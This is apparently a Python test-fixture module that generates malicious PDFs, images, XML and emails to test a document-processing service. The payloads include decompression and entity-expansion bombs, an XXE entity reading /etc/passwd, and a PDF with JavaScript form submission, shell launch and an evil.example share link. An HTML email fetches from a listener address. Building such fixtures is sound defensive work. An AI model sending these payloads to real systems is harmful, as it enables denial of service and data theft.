"""Files that are made to do harm, each by code: none of them is stored anywhere."""

import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image

PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 300 400]"


def stream(content: bytes, entries: str = "") -> bytes:
    """An object with content, compressed."""
    packed = zlib.compress(content)
    return f"<< /Length {len(packed)} /Filter /FlateDecode {entries} >>\nstream\n".encode() + packed + b"\nendstream"


def pdf_of(objects: Sequence[bytes], trailer: str = "", start: int | None = None) -> bytes:
    """A PDF of these objects; the first is the catalog."""
    told, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(told))
        told += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n"
    return told + table + end.encode() + b"%d\n%%%%EOF\n" % (len(told) if start is None else start)


def pdf(said: str = "Total 717.97", catalog: str = "", page: str = "", more: Sequence[bytes] = ()) -> bytes:
    """A PDF of one page that says something; more objects begin at 6."""
    return pdf_of(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< {PAGE} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>".encode(),
            stream(f"BT /F1 12 Tf 20 300 Td ({said}) Tj ET".encode("latin-1")),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def drawing(content: bytes, resources: str = "", more: Sequence[bytes] = ()) -> bytes:
    """A PDF of one page with any content; more objects begin at 5."""
    page = f"<< {PAGE} /Contents 4 0 R /Resources << {resources} >> >>".encode()
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, stream(content), *more])


def many_pages(count: int = 10_000) -> bytes:
    """A PDF of ten thousand pages."""
    kids = " ".join(f"{3 + number} 0 R" for number in range(count))
    pages = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode()
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *([f"<< {PAGE} >>".encode()] * count)])


def flate_bomb(megabytes: int = 300) -> bytes:
    """A page whose content grows a thousandfold."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m " * (1 << 18)) for _ in range(megabytes * 2 // 3)) + packer.flush()
    content = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode() + packed + b"\nendstream"
    page, pages = f"<< {PAGE} /Contents 4 0 R >>".encode(), b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, content])


def active(address: str) -> bytes:
    """A PDF that does all that one can ask a reader to do: run, launch, fetch, submit, open another file."""
    actions = [
        b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('%b');) >>" % address.encode(),
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        b"<< /S /URI /URI (%b) >>" % address.encode(),
        b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (%b) >> >>" % address.encode(),
    ]
    annotations = " ".join(f"<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A {6 + n} 0 R >>" for n in range(5))
    names = "/Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(x.exe) 11 0 R] >> >>"
    return pdf(
        catalog=f"/OpenAction 6 0 R {names} /AcroForm << /Fields [] /XFA (<x/>) >>",
        page=f"/Annots [{annotations}] /AA << /O 6 0 R >>",
        more=[*actions, b"<< /Type /Filespec /F (x.exe) /EF << /F 12 0 R >> >>", stream(b"MZ")],
    )


def remote_picture(address: str) -> bytes:
    """A PDF whose picture is a file elsewhere."""
    picture = f"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray \
/F << /FS /URL /F ({address}) >> /Length 0 >>\nstream\n\nendstream".encode()
    return drawing(b"/X Do", "/XObject << /X 5 0 R >>", [picture])


def encrypted() -> bytes:
    """A PDF that nobody opens without its password."""
    secret = "<" + "5a" * 32 + ">"
    lock = f"<< /Filter /Standard /V 1 /R 2 /O {secret} /U {secret} /P -4 >>".encode()
    whole = pdf(more=[lock])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R /ID [<00><00>]")


def form_in_itself() -> bytes:
    """A drawing that draws itself."""
    form = stream(
        b"/X Do " * 50, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"
    )
    return drawing(b"/X Do", "/XObject << /X 5 0 R >>", [form])


def forms_in_forms(depth: int = 12, times: int = 12) -> bytes:
    """Drawings that each draw the next one a dozen times: more strokes than anybody waits for."""
    more = [
        stream(
            b"/X Do " * times if number < depth else b"0 0 300 400 re f ",
            f"/Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << /X {6 + number} 0 R >> >>",
        )
        for number in range(depth + 1)
    ]
    return drawing(b"/X Do", "/XObject << /X 5 0 R >>", more)


def slow_pattern() -> bytes:
    """A pattern of tiles much smaller than a point."""
    tile = stream(
        b"0 0 1 1 re f",
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 "
        "/Resources << >>",
    )
    return drawing(b"/Pattern cs /P scn 0 0 300 400 re f", "/Pattern << /P 5 0 R >>", [tile])


def font_of_itself() -> bytes:
    """A font whose letters are written with the same font."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
        b"/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    letter = stream(b"9 0 d0 BT /F1 1 Tf (aaaaaaaaaaaaaaaa) Tj ET")
    return drawing(b"BT /F1 12 Tf (aaaaaaaaaaaaaaaa) Tj ET", "/Font << /F1 5 0 R >>", [font, letter])


def broken_font() -> bytes:
    """A font program of random numbers."""
    program = stream(bytes(range(256)) * 400, "/Length1 102400")
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>"
    words = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>"
    return drawing(b"BT /F1 12 Tf 20 300 Td (abc) Tj ET", "/Font << /F1 5 0 R >>", [font, words, program])


def tree_in_itself() -> bytes:
    """Pages that are their own parents."""
    pages = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000000 /Parent 2 0 R >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages])


def boxed(box: str) -> bytes:
    """A page of an impossible size."""
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] >>".encode()
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])


def png_bomb(side: int = 30_000) -> bytes:
    """A picture of 900 million pixels in a few bytes."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100_000))
        + chunk(b"IEND", b"")
    )


def png_text_bomb() -> bytes:
    """A small picture with a text that grows to 200 million characters."""
    whole = png()
    text = chunk(b"zTXt", b"k\0\0" + zlib.compress(b"a" * 200_000_000, 9))
    return whole[:33] + text + whole[33:]


def chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png() -> bytes:
    """A harmless picture."""
    return saved(Image.new("RGB", (40, 30), "teal"), "PNG")


def saved(picture: Image.Image, form: str, **options: object) -> bytes:
    """A picture as a file."""
    told = io.BytesIO()
    picture.save(told, form, **options)  # type: ignore[arg-type]
    return told.getvalue()


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that says that it is so large, and holds nothing."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\0"
    return (
        b"\xff\xd8\xff\xc0"
        + struct.pack(">H", len(frame) + 2)
        + frame
        + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0"
        + b"\xff\xd9"
    )


def frames(form: str, count: int) -> bytes:
    """A file of many pictures."""
    pictures = [Image.new("RGB", (8, 8), (number % 250, 0, 99)) for number in range(count)]
    return saved(pictures[0], form, save_all=True, append_images=pictures[1:])


def tiff_in_a_circle() -> bytes:
    """A TIFF whose second picture is its first."""
    whole = bytearray(saved(Image.new("L", (8, 8)), "TIFF"))
    (first,) = struct.unpack("<I", whole[4:8])
    (entries,) = struct.unpack("<H", whole[first : first + 2])
    end = first + 2 + 12 * entries
    whole[end : end + 4] = struct.pack("<I", first)
    return bytes(whole)


def nested_mail(depth: int = 1_000) -> bytes:
    """An email in an email in an email."""
    head = b"From: a@a.example\nTo: b@b.example\nSubject: x\nContent-Type: message/rfc822\n\n"
    return head * depth + b"From: a@a.example\nTo: b@b.example\nSubject: in\n\nTotal 1"


def nested_parts(depth: int = 1_000) -> bytes:
    """An email of parts in parts in parts."""
    told = "From: a@a.example\nTo: b@b.example\nSubject: x\nMIME-Version: 1.0\n"
    for number in range(depth):
        told += f'Content-Type: multipart/mixed; boundary="b{number}"\n\n--b{number}\n'
    return told.encode()


def html_mail(address: str) -> bytes:
    """An email in HTML with a script and a picture from elsewhere."""
    return (
        "From: a@a.example\nTo: b@b.example\nSubject: Bill\nContent-Type: text/html\n\n"
        f"<p>Total <b>717.97</b><img src='{address}'><script src='{address}'>fetch('{address}')</script>"
        f"<link rel=stylesheet href='{address}'><style>@import '{address}';</style>"
    ).encode()


def laughs() -> bytes:
    """XML whose entities multiply."""
    rows = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{rows}]><x>&l9;</x>'.encode()


def external_entity(address: str) -> bytes:
    """XML that asks for a file and for an address."""
    return f"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{address}">
<!ENTITY % c SYSTEM "{address}"> %c;]><x>&a;&b;</x>""".encode()


# Nothing of these can be shown; each makes bytes, given an address where somebody listens.
REFUSED: dict[str, Callable[[str], bytes]] = {
    "a PDF with a password": lambda _address: encrypted(),
    "a PDF that is cut off": lambda _address: pdf()[:40],
    "a PDF of noise": lambda _address: b"%PDF-1.7\n" + bytes(range(256)) * 200,
    "a PDF whose pages are their own parents": lambda _address: tree_in_itself(),
    "a PNG of 900 million pixels": lambda _address: png_bomb(),
    "a JPEG of 100 million pixels": lambda _address: jpeg_of(10_000, 10_000),
    "a JPEG without a picture": lambda _address: jpeg_of(0, 0),
    "a GIF that is a script": lambda _address: b"GIF89a/*\0\0\0\0*/=1;alert(1)//",
    "a WebP of noise": lambda _address: b"RIFF\x20\0\0\0WEBPVP8 " + bytes(range(200)),
    "a TIFF of noise": lambda _address: b"II*\0\xff\xff\xff\xff" + bytes(200),
    "XML whose entities multiply": lambda _address: laughs(),
    "XML with an entity": lambda _address: b'<!DOCTYPE x [<!ENTITY a "717.97">]><x>&a;</x>',
    "XML that asks for other files": external_entity,
    "XML that is not": lambda _address: b"<Invoice><ID>1</Invoice>",
    "an email in a thousand emails": lambda _address: nested_mail(),
}
# Something of these can be shown, or it takes too long: they draw, are read, or are refused with a sentence.
SURVIVED: dict[str, Callable[[str], bytes]] = {
    "a PDF that is HTML": lambda address: pdf() + f"<script src='{address}'></script>".encode(),
    "a PDF that is a ZIP": lambda _address: pdf() + b"PK\x05\x06" + bytes(18),
    "a PDF that acts": active,
    "a PDF with a picture from elsewhere": remote_picture,
    "a PDF of ten thousand pages": lambda _address: many_pages(),
    "a PDF that grows": lambda _address: flate_bomb(),
    "a PDF with a wrong table": lambda _address: pdf().replace(b"0000000", b"9999999"),
    "a PDF that is nested": lambda _address: drawing(b"[" * 100_000 + b"q " * 100_000),
    "a PDF whose drawing draws itself": lambda _address: form_in_itself(),
    "a PDF of drawings in drawings": lambda _address: forms_in_forms(),
    "a PDF with a slow pattern": lambda _address: slow_pattern(),
    "a PDF whose font uses itself": lambda _address: font_of_itself(),
    "a PDF with a broken font": lambda _address: broken_font(),
    "a PDF page of enormous size": lambda _address: boxed("0 0 1e9 1e9"),
    "a PDF page without a size": lambda _address: boxed("0 0 0 0"),
    "a PDF page as a line": lambda _address: boxed("0 0 1 14400"),
    "a PNG with a text that grows": lambda _address: png_text_bomb(),
    "a PNG that is a ZIP": lambda _address: png() + b"PK\x05\x06" + bytes(18),
    "an animated GIF": lambda _address: frames("GIF", 40),
    "a TIFF of many frames": lambda _address: frames("TIFF", 300),
    "a TIFF in a circle": lambda _address: tiff_in_a_circle(),
    "XML of a hundred thousand levels": lambda _address: b"<a>" * 100_000 + b"x" + b"</a>" * 100_000,
    "CSV of a million columns": lambda _address: (b"a;" * 1_000_000 + b"b\n") * 2,
    "an email in a thousand parts": lambda _address: nested_parts(),
    "an email with a long header": lambda _address: b"From: a\nTo: b\nSubject: " + b"a," * 200_000 + b"\n\nx",
    "an email in HTML": html_mail,
    "a text of one line": lambda _address: b"a" * 5_000_000,
}
